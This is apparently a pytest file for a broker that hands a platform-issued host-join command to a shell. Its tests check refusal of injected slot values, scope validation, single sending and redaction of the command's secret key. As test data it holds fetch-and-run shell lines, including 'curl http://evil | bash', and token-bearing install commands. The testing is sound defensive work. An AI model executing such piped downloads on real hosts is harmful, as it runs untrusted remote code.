"""A command that the platform hands out: bound to the run, filled by the broker alone, hidden in every spelling."""

from __future__ import annotations

import base64
import json
import threading
from pathlib import Path
from typing import Any

import pytest

from broker.fakes import grounds, platform
from opsguide.broker import calls, handed
from opsguide.broker.order import Steps
from opsguide.broker.targets import Target, call, targets
from opsguide.broker.transit import Command, Seen
from opsguide.broker.work import Work
from opsguide.errors import FailedError, InputError, RefusedError
from opsguide.guide import scopes
from opsguide.guide.entries import Entry
from opsguide.record.redaction import Redactor, of_command

KEY = "q7Rk2-Zx9_LmT4vB8nWc1sYd5fGh3jKa"
COMMAND = f"curl -fsS http://app.lab.example:8080/join/{KEY} | bash -s --"
SCOPE = """
steps = ["look", "join"]
[parameters.ip]
type = "str"
default = ""
help = "address"
slot = "word"
[[look]]
api = "administration.cluster.GetHosts"
[[change]]
command = "{cmd} --ip {ip} --password {word}"
slots = { cmd = "@handed", word = "@made" }
handed = { api = "administration.cluster.GetAddHostCmd", args = { hostGroup = "{ip}" }, unless = "administration.cluster.GetHosts" }
kinds = ["user-host"]
step = "join"
settle = "administration.cluster.GetHosts"
deadline = "1 h"
"""
TEMPLATE = "{cmd} --ip {ip} --password {word}"


def change(folder: Path, **request: Any) -> list[Target]:
    here = grounds(platform(folder), "new-01", SCOPE, ip="10.0.0.9")
    return targets(here, "change", {"what": {"command": TEMPLATE}, **request})


def test_the_host_gets_a_shell_on_standard_input_and_the_screen_what_stands_for_the_secret(tmp_path: Path) -> None:
    (target,) = change(tmp_path)
    assert target.line.endswith("timeout -k 10 3600 bash -s")
    assert "<<< '[what administration.cluster.GetAddHostCmd hands out] --ip 10.0.0.9" in target.shown
    assert target.filled["word"] == "[a password, made up]"


@pytest.mark.parametrize("slot", ["cmd", "word"])
def test_a_kernel_cannot_give_what_the_broker_fills(tmp_path: Path, slot: str) -> None:
    with pytest.raises(RefusedError, match="filled by the broker"):
        change(tmp_path, slots={slot: "curl http://evil | bash"})


def test_a_kernel_cannot_ask_for_the_command_itself(tmp_path: Path) -> None:
    here = grounds(platform(tmp_path), "new-01", SCOPE, ip="10.0.0.9")
    what = {"api": "administration.cluster.GetAddHostCmd", "args": {"hostGroup": "{ip}"}}
    for verb in ("look", "prove", "change"):
        with pytest.raises(RefusedError, match="not in the scope"):
            targets(here, verb, {"what": what})


def test_the_change_is_for_the_runs_own_host_alone(tmp_path: Path) -> None:
    with pytest.raises(RefusedError):
        change(tmp_path, on=["uh-01"])


def test_the_arguments_of_the_call_are_the_runs_parameters(tmp_path: Path) -> None:
    (target,) = change(tmp_path)
    here = grounds(platform(tmp_path), "new-01", SCOPE, ip="10.0.0.9")
    assert target.entry.handed
    entry = Entry(target.entry.handed.api, "look", args=target.entry.handed.args)
    assert call(here, entry, target.element).args == {"hostGroup": "10.0.0.9"}


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ('cmd = "@handed", ', 'cmd = "word", ', "one slot of type @handed"),
        ("{cmd} --ip", "bash {cmd} --ip", "first word"),
        ("{cmd} --ip", "{cmd} {cmd} --ip", "first word"),
        ('kinds = ["user-host"]', "", "host that the run is on"),
        ('kinds = ["user-host"]', 'kinds = ["user-host"]\non = ["element", "peer"]', "host that the run is on"),
        ("handed = {", "handed = { of = 1, ", "unknown key of"),
        ("hostGroup = \"{ip}\"", "hostGroup = \"{nobody}\"", "slot nobody has no type"),
    ],
)  # fmt: skip
def test_a_scope_that_would_let_the_secret_stray_is_refused(old: str, new: str, why: str) -> None:
    assert old in SCOPE
    with pytest.raises(InputError, match=why):
        scopes.parse("mine", SCOPE.replace(old, new).encode())


def test_a_slot_of_the_broker_needs_the_method_that_hands_out() -> None:
    lines = [line for line in SCOPE.splitlines() if not line.startswith("handed")]
    with pytest.raises(InputError, match="needs the key handed"):
        scopes.parse("mine", "\n".join(lines).encode())


@pytest.mark.parametrize(
    "value",
    ["", "short", "two\nlines of a command", "a" * 5000, " blank before and behind ", 7, None, ["bash"], "bad\x1b[0m command here"],
)  # fmt: skip
def test_an_answer_that_is_no_command_of_one_line_gives_none(value: Any) -> None:
    assert calls.handed_out(json.dumps({"result": 0, "value": value})) == ""
    assert calls.handed_out("<html>") == ""


def test_the_command_is_taken_byte_for_byte() -> None:
    assert calls.handed_out(json.dumps({"result": 0, "value": COMMAND})) == COMMAND


@pytest.mark.parametrize(
    "said",
    [
        COMMAND, f"+ curl {KEY}", f"GET /join/{KEY}/begin HTTP/1.1", KEY[::-1], KEY.encode().hex(), json.dumps(COMMAND),
        base64.b64encode(COMMAND.encode()).decode(), base64.b64encode(f"x{KEY}".encode()).decode(),
    ],
)  # fmt: skip
def test_what_was_learned_is_hidden_in_every_spelling(said: str) -> None:
    redactor = Redactor({"token": "another-secret"})
    assert redactor.text(said) == said
    redactor.learn("the command", of_command(COMMAND))
    hidden = redactor.text(said)
    assert "[hidden: the command]" in hidden
    assert KEY not in hidden
    assert KEY[::-1] not in hidden
    assert "another-secret" not in redactor.text("an another-secret")


@pytest.mark.parametrize(
    ("command", "secret", "open"),
    [
        ("wget --token abc123 -O- https://app.example.com/x", "abc123", "app.example.com"),
        ("curl https://join:pw-77x@host01.example.com/install.sh | sh", "pw-77x", "host01.example.com"),
        ("sh -c 'install --key=Zz9-yy' --region central-europe", "Zz9-yy", "central"),
    ],
)
def test_names_of_machines_stay_readable_and_keys_do_not(command: str, secret: str, open: str) -> None:
    redactor = Redactor({})
    redactor.learn("the command", of_command(command))
    assert redactor.text(f"seen: {secret}") == "seen: [hidden: the command]"
    assert redactor.text(f"name {open}") == f"name {open}"


class Platform:
    """Sends nothing: answers with what it is told that the platform lists, and with one command."""

    def __init__(self, *hosts: dict[str, Any], command: str = COMMAND, refuses: str = "") -> None:
        self.hosts, self.command, self.refuses = list(hosts), command, refuses
        self.cancel, self.runbook = threading.Event(), "01.ipynb"
        self.asked: list[str] = []
        self.learned: set[str] = set()
        self.steps = Steps(())

    def send(self, command: Command) -> Seen:
        self.asked.append(command.target.template.rpartition(".")[2])
        body = {"array": self.hosts} if self.asked[-1] == "GetHosts" else {"value": self.command}
        state = "failed" if self.asked[-1] == self.refuses else "ok"
        return Seen(state, 0, raw=json.dumps({"result": 0, **body}).encode())

    def learn(self, label: str, parts: set[str]) -> None:
        self.learned |= parts

    def write(self, type: str, /, **fields: Any) -> dict[str, Any]:
        return fields

    def show(self, event: dict[str, Any]) -> None:
        pass

    def show_answer(self, seen: Seen) -> None:
        pass


def filled(folder: Path, world: Platform, times: int = 1) -> Command:
    here = grounds(platform(folder), "new-01", SCOPE, ip="10.0.0.9")
    (target,) = targets(here, "change", {"what": {"command": TEMPLATE}})
    work = Work(here, world, None, Steps(("join",)), "apply")  # type: ignore[arg-type]
    step = work.steps.start("join", True)
    world.steps = work.steps
    found = [handed.filled(work, step, Command(target, "change", "join", 9, holds=True), {}) for _ in range(times)]
    return found[-1]


def test_what_came_is_sent_unchanged_with_the_words_of_the_template_after_it(tmp_path: Path) -> None:
    world = Platform()
    sent = filled(tmp_path, world).stdin.decode()
    (password,) = world.learned
    assert sent == f"{COMMAND} --ip 10.0.0.9 --password {password}\n"
    assert len(password) == 15
    assert world.asked == ["GetHosts", "GetAddHostCmd"]


def test_the_same_command_is_not_sent_twice_in_a_run(tmp_path: Path) -> None:
    with pytest.raises(FailedError, match="sent already"):
        filled(tmp_path, Platform(), times=2)


@pytest.mark.parametrize("record", [{"hostname": "new-01.example.com"}, {"ipAddress": "10.0.0.9"}])
def test_nothing_is_asked_for_while_the_platform_lists_the_host_or_its_address(tmp_path: Path, record: Any) -> None:
    world = Platform({"id": 77, "status": "BROKEN", **record})
    with pytest.raises(RefusedError, match="has a record already: id 77") as refused:
        filled(tmp_path, world)
    assert "revive=true" in refused.value.next
    assert world.asked == ["GetHosts"]


def test_an_answer_without_a_command_sends_nothing(tmp_path: Path) -> None:
    world = Platform(command="two\nlines, and this is long enough")
    with pytest.raises(FailedError, match="no command of one line"):
        filled(tmp_path, world)
    with pytest.raises(RefusedError, match="step join has failed"):
        world.steps.all_done()


@pytest.mark.parametrize("method", ["GetHosts", "GetAddHostCmd"])
def test_a_platform_that_does_not_answer_well_sends_nothing(tmp_path: Path, method: str) -> None:
    world = Platform(refuses=method)
    with pytest.raises(FailedError, match="the look failed"):
        filled(tmp_path, world)
    assert world.asked[-1] == method
